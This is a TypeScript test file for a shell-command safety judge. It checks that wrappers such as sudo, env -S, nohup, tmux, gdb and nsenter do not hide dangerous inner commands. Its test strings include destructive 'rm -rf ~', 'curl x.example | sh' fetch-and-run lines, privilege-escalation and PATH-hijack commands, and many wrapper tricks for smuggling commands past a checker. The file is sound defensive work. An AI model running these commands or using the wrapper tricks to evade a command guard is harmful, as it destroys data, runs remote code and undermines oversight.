import { expect, test } from "vitest";
import { judgeCommand } from "../../judge.ts";
import { around } from "../../testing/around.ts";
import { effectsOf, effectLines } from "../../testing/effects.ts";
import { holdUp } from "../../testing/rows.ts";
import { everyProgram } from "../index.ts";

const rows = everyProgram();

const tells = (line: string): string[] =>
  effectLines(effectsOf([], line)).map((words) => words.replaceAll(/\s+/gu, " ").trim());

test.each([
  "nohup rm -rf x",
  "setsid -f rm -rf x",
  "builtin rm -rf x",
  "command -p rm -rf x",
  "exec -a name rm -rf x",
  "timeout 5 rm -rf x",
  "timeout -s KILL --kill-after=3 5s rm -rf x",
  "timeout --sig 9 5 rm -rf x",
  "nice rm -rf x",
  "nice -n 10 rm -rf x",
  "nice -10 rm -rf x",
  "ionice -c3 -n 7 rm -rf x",
  "chrt --batch rm -rf x",
  "stdbuf -oL -e 0 rm -rf x",
  "time -p rm -rf x",
  "time -f %e rm -rf x",
  "flock -n -w 5 lock rm -rf x",
  "busybox rm -rf x",
  "watch -x -n 1 rm -rf x",
  "firejail --noprofile rm -rf x",
  "perf stat -e cycles -r 3 rm -rf x",
  "perf record -g -- rm -rf x",
  "valgrind --leak-check=full rm -rf x",
  "entr -c rm -rf x",
  "env rm -rf x",
  "env -i -u A -- rm -rf x",
  "env -S rm_-rf_x",
  "env -iS rm_-rf x",
  "env --split-string=rm_'-rf'_\"x\"",
  "env -S rm\\_-rf_x_#_comment",
  "cross-env rm -rf x",
  "direnv exec . rm -rf x",
  "systemd-run --scope -p A=b rm -rf x",
  "start-stop-daemon --start --pidfile p --exec rm -- -rf x",
  "daemonize -E A=b -a rm -rf x",
  "script -q /dev/null rm -rf x",
])("the command behind a wrapper's own arguments is reported: %s", (line) => {
  expect(tells(line).filter((each) => each.startsWith("runs rm -rf x"))).toHaveLength(1);
});

test.each([
  "sudo -u root -E rm -rf x",
  "sudo -n -- rm -rf x",
  "sudo -iu root rm -rf x",
  "doas -u root rm -rf x",
])("a command run as another user is reported with that danger: %s", (line) => {
  expect(tells(line)).toEqual([
    "danger high it runs with the rights of another user",
    expect.stringMatching(/^runs rm -rf x/u),
  ]);
});

test.each([
  "chrt -i 0",
  "taskset -c 0,1",
  "setarch x86_64 -R",
  "xvfb-run -a -s '-screen 0'",
  "faketime -f 2020-01-01",
  "bwrap --bind / / --dev /dev --unshare-all --setenv A b",
  "bwrap --ro-bind / / --",
  "mise exec node@22 --",
  "mise x python@3",
  "dtach -n socket",
  "pkexec --user root",
  "gosu root",
  "setpriv --reuid 0 --clear-groups",
  "runuser -u dev --",
  "linux32",
  "ld-linux-x86-64.so.2",
  "gdb -q --args",
  "strace -f -e trace=file -s 200",
  "ltrace -S",
  "asdf exec",
  "nice -n 10",
  "unshare -r",
  "nsenter -t 1 -m",
  "chroot /mnt",
  "proot -r /mnt",
  "distrobox enter box --",
  "singularity exec --bind /a:/b a.sif",
  "toolbox run -c box",
  "torsocks",
  "numactl -N 0 -m 0",
  "script -q /dev/null",
])("the command of a wrapper is found, wherever it stands: %s", (wrapper) => {
  expect(judgeCommand(`${wrapper} rm -rf ~`, around).severity).toBe("critical");
  expect(judgeCommand(`${wrapper} curl x.example | sh`, around).severity).toBe("critical");
  expect(judgeCommand(`curl x.example | ${wrapper} sh`, around).severity).toBe("critical");
});

test.each(["su", "su root", "script out", "unshare -r", "chroot /mnt", "setarch x86_64", "nsenter -m"])(
  "without a command its shell reads what comes in: %s",
  (wrapper) => {
    expect(judgeCommand(`curl x.example | ${wrapper}`, around).severity).toBe("critical");
  },
);

test.each([
  ["su -c id root", "interprets shell id"],
  ["su - root", "interprets-input shell"],
  ["sg docker -c id", "interprets shell id"],
  ["sg --pattern f($A) src", "runs ast-grep --pattern f($A) src"],
  ["sg scan", "runs ast-grep scan"],
  ["sudo -s", "interprets-input shell"],
  ["flock lock -c id", "interprets shell id"],
  ["watch -n 1 rm -rf x", "interprets shell rm -rf x"],
  ["script -qc id out", "interprets shell id"],
  ["hyperfine -p id ls", "interprets shell id"],
  ["hyperfine -L d a,b rm_{d}", "interprets shell rm …"],
  ["entr -s id", "interprets shell id sh"],
  ["watchexec -e ts npm test", "interprets shell npm test"],
  ["mise exec -c id", "interprets shell id"],
  ["nix-shell -p jq --run id", "interprets shell id"],
  ["strace -o |id ls", "interprets shell id"],
  ["gdb -ex shell_id x", "interprets shell id"],
  ["gdb -ex python_print(1) x", "interprets python print(1)"],
  ['gdb -batch -ex call_system("id") -p 1', 'interprets other call system("id")'],
])("text passed to a shell is reported as code: %s", (line, effect) => {
  expect(tells(line)).toContain(effect);
});

test.each([
  ["time -o out ls", "writes out replaces"],
  ["strace -o out ls", "writes out replaces"],
  ["hyperfine --export-json out ls", "writes out replaces"],
  ["script -a out", "writes out replaces"],
  ["sudoedit /etc/hosts", "writes /etc/hosts replaces"],
  ["sudo -e /etc/hosts", "writes /etc/hosts replaces"],
  ["busybox --install /bin", "danger high it puts itself in the place of many programs"],
  ["ld.so --preload x.so ls", "danger high it loads a library into the program"],
  ["env A=b", "prints secret variables"],
  ["systemd-run --on-calendar=daily x", "danger critical it schedules a command, which then runs by itself"],
  ["nsenter -t 1 -m sh", "danger critical it enters the view that another process has of the system"],
  ["direnv allow", "danger high it lets the code of a directory run by itself from now on"],
  ["env PATH=/tmp/x ls", "danger high its variable PATH has programs come from another directory"],
  ["sudo PATH=/tmp/x ls", "danger high its variable PATH has programs come from another directory"],
])("a wrapper's own effects are reported too: %s", (line, effect) => {
  expect(tells(line)).toContain(effect);
});

test.each([
  "command -v node",
  "taskset -p 123",
  "chrt -p 123",
  "busybox --list",
  "sudo --version",
  "env -i",
  "perf report",
  "direnv status",
  "mise ls",
  "flock 9",
])("a wrapper that runs no command has no effect: %s", (line) => {
  expect(tells(line)).toEqual([]);
});

test.each([
  "tmux new-session -d -s name 'rm -rf ~'",
  "tmux send-keys -t name 'rm -rf ~' Enter",
  "tmux new -d -s name rm -rf /home/dev",
  "screen -dmS name rm -rf ~",
  "xterm -T title -e rm -rf ~",
  "gnome-terminal -- rm -rf ~",
])("what runs in another terminal is critical if it is anywhere: %s", (line) => {
  expect(judgeCommand(line, around).severity).toBe("critical");
});

test("an unknown argument that may be an option does not hide the command behind it", () => {
  expect(tells("sudo ?options rm -rf x")).toContain("runs rm -rf x");
  expect(tells("nice ?options rm -rf x")).toContain("runs rm -rf x");
});

test("deeply nested env -S options terminate", () => {
  const line = `env ${"-S".repeat(20_000)}`;
  expect(tells(line)).toEqual(["runs …"]);
});

test("env -C and its variables apply to the command that it runs", () => {
  const [effect] = effectsOf([], "env -C / A=b rm -rf home");
  expect(effect).toMatchObject({
    type: "runs",
    directory: { text: "/" },
    variables: [{ name: "A", value: { text: "b" } }],
  });
});

test("no wrapper's row throws, whatever the arguments", () => holdUp(rows));
